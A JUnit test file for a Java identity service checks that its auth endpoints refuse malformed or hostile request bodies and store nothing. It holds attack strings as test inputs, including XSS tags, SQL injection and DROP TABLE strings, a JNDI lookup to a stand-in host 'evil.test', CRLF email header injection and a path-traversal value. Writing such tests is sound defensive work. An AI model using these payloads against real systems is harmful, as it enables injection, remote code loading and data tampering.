package app.domus.identity.handlers;

import static app.domus.identity.handlers.IdentityFixture.PASSWORD;
import static org.assertj.core.api.Assertions.assertThat;

import app.domus.identity.handlers.IdentityFixture.Account;
import app.domus.identity.handlers.IdentityFixture.Response;
import app.domus.shared.http.HttpHandler;
import app.domus.shared.json.Json;
import app.domus.shared.testing.HttpEvents;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every identity endpoint that takes a body refuses bad input with a 4xx problem before anything is stored.
 * The valid bodies here would succeed (or at least write something), so a check that is skipped shows up as
 * a changed table.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputTest {
    private static final String MFA_TOKEN = "A".repeat(43);

    private final IdentityFixture fx = new IdentityFixture();
    private Account account;
    private String openCode;

    record Endpoint(String name, HttpHandler handler, String path, boolean signedIn, Map<String, Object> valid) {
        List<String> fields() {
            return List.copyOf(valid.keySet());
        }

        @Override
        public String toString() {
            return name;
        }
    }

    record Case(Endpoint endpoint, String description, String body, int status, String slug, Set<String> fields) {
        @Override
        public String toString() {
            return endpoint.name() + ": " + description;
        }
    }

    @BeforeAll
    void signUp() {
        account = fx.signUp("resident@example.test");
        openCode = fx.invitation().code();
        fx.events.clear();
    }

    private List<Endpoint> endpoints() {
        return List.of(
                new Endpoint("register", fx.registerHandler, "/auth/register", false, ordered(
                        "email", "new.person@example.test", "password", PASSWORD, "invitationCode", openCode,
                        "displayName", "New Person")),
                new Endpoint("login", fx.loginHandler, "/auth/login", false, ordered(
                        "email", account.email(), "password", PASSWORD)),
                new Endpoint("mfa-verify", fx.mfaVerifyHandler, "/auth/mfa/verify", false, ordered(
                        "mfaToken", MFA_TOKEN, "code", "123456")),
                new Endpoint("refresh", fx.refreshHandler, "/auth/refresh", false, ordered(
                        "refreshToken", account.refreshToken())),
                new Endpoint("mfa-enable", fx.mfaEnableHandler, "/auth/mfa/enable", true, ordered("code", "123456")),
                new Endpoint("mfa-disable", fx.mfaDisableHandler, "/auth/mfa/disable", true, ordered("code", "123456")),
                new Endpoint("password", fx.changePasswordHandler, "/auth/password", true, ordered(
                        "currentPassword", PASSWORD, "newPassword", "an entirely new passphrase")));
    }

    Stream<Case> cases() {
        List<Case> cases = new ArrayList<>();
        for (Endpoint e : endpoints()) {
            String first = e.fields().get(0);
            cases.add(new Case(e, "truncated JSON", "{\"" + first + "\": \"x\",", 400, "malformed-json", null));
            cases.add(new Case(e, "not JSON at all", first + "=x&y=z", 400, "malformed-json", null));
            cases.add(new Case(e, "single quotes", "{'" + first + "': 'x'}", 400, "malformed-json", null));
            cases.add(new Case(e, "empty body", "", 400, "validation-error", Set.of("body")));
            cases.add(new Case(e, "JSON null", "null", 400, "validation-error", Set.of("body")));
            cases.add(new Case(e, "JSON array", "[1, 2]", 400, "validation-error", null));
            cases.add(new Case(e, "all fields missing", "{}", 400, "validation-error",
                    Set.copyOf(required(e))));
            for (String field : e.fields()) {
                cases.add(new Case(e, field + " is a number", with(e, field, 5), 400, "validation-error", Set.of(field)));
                cases.add(new Case(e, field + " is a boolean", with(e, field, true), 400, "validation-error", Set.of(field)));
                cases.add(new Case(e, field + " is an object (NoSQL operator)", with(e, field, Map.of("$ne", "")),
                        400, "validation-error", Set.of(field)));
                if (required(e).contains(field)) {
                    cases.add(new Case(e, field + " missing", without(e, field), 400, "validation-error", Set.of(field)));
                    cases.add(new Case(e, field + " null", with(e, field, null), 400, "validation-error", Set.of(field)));
                }
            }
            cases.add(new Case(e, "body over 64 KiB", with(e, first, "a".repeat(70_000)), 413, "payload-too-large", null));
            cases.add(new Case(e, "multi-byte body over 64 KiB", with(e, first, "€".repeat(25_000)), 413,
                    "payload-too-large", null));
        }
        Endpoint register = endpoints().get(0);
        Endpoint login = endpoints().get(1);
        Endpoint verify = endpoints().get(2);
        Endpoint refresh = endpoints().get(3);
        Endpoint enable = endpoints().get(4);
        Endpoint disable = endpoints().get(5);
        cases.add(hostile(register, "displayName", "<script>alert(1)</script>"));
        cases.add(hostile(register, "displayName", "Eve\u0000\u001b[2J"));
        cases.add(hostile(register, "displayName", "${jndi:ldap://evil.test/a}"));
        cases.add(hostile(register, "displayName", "<img src=x onerror=alert(1)>"));
        cases.add(hostile(register, "email", "<script>alert(1)</script>@example.test"));
        cases.add(hostile(register, "email", "victim@example.test\r\nBcc: everyone@example.test"));
        cases.add(hostile(register, "email", "robert'); DROP TABLE users;--"));
        cases.add(hostile(register, "invitationCode", "' OR '1'='1"));
        cases.add(hostile(register, "invitationCode", openCode + "'; DROP TABLE invitations; --"));
        cases.add(hostile(register, "invitationCode", openCode.toLowerCase()));
        cases.add(hostile(register, "invitationCode", openCode + "\u0000"));
        cases.add(hostile(login, "email", "<script>alert(1)</script>"));
        cases.add(hostile(login, "email", "' OR 1=1 --"));
        cases.add(hostile(login, "password", "x".repeat(129)));
        cases.add(hostile(verify, "mfaToken", "../../../../etc/passwd-and-then-some"));
        cases.add(hostile(verify, "mfaToken", MFA_TOKEN + "' OR '1'='1"));
        cases.add(hostile(verify, "code", "<img src=x onerror=alert(1)>"));
        cases.add(hostile(verify, "code", "123456' OR '1'='1"));
        cases.add(hostile(refresh, "refreshToken", "' OR 'a'='a' -- padding padding"));
        cases.add(hostile(refresh, "refreshToken", account.refreshToken() + "\u0000"));
        cases.add(hostile(enable, "code", "123456 OR 1=1"));
        cases.add(hostile(disable, "code", "\u0000123456"));
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void badInputIsRefusedAndNothingIsStored(Case c) {
        Set<String> before = fx.snapshot();
        int eventsBefore = fx.events.size();

        HttpEvents event = HttpEvents.request("POST", c.endpoint().path()).body(c.body());
        if (c.endpoint().signedIn()) event = fx.as(account.accessToken(), event);
        Response r = fx.call(c.endpoint().handler(), event);

        r.assertProblem(c.status(), c.slug());
        assertThat(r.json().has("accessToken")).isFalse();
        if (c.fields() != null) assertThat(r.fieldErrors()).isEqualTo(c.fields());
        assertThat(fx.snapshot()).as("table after a refused request").isEqualTo(before);
        assertThat(fx.events.all()).hasSize(eventsBefore);
    }

    private static List<String> required(Endpoint e) {
        return e.fields().stream().filter(f -> !f.equals("displayName")).toList();
    }

    private static Case hostile(Endpoint e, String field, String value) {
        return new Case(e, field + " = " + Json.write(value), with(e, field, value), 400, "validation-error", Set.of(field));
    }

    private static String with(Endpoint e, String field, Object value) {
        Map<String, Object> body = new LinkedHashMap<>(e.valid());
        body.put(field, value);
        return Json.MAPPER.copy().setSerializationInclusion(com.fasterxml.jackson.annotation.JsonInclude.Include.ALWAYS)
                .valueToTree(body).toString();
    }

    private static String without(Endpoint e, String field) {
        Map<String, Object> body = new LinkedHashMap<>(e.valid());
        body.remove(field);
        return Json.write(body);
    }

    private static Map<String, Object> ordered(Object... keyValues) {
        return IdentityFixture.body(keyValues);
    }
}
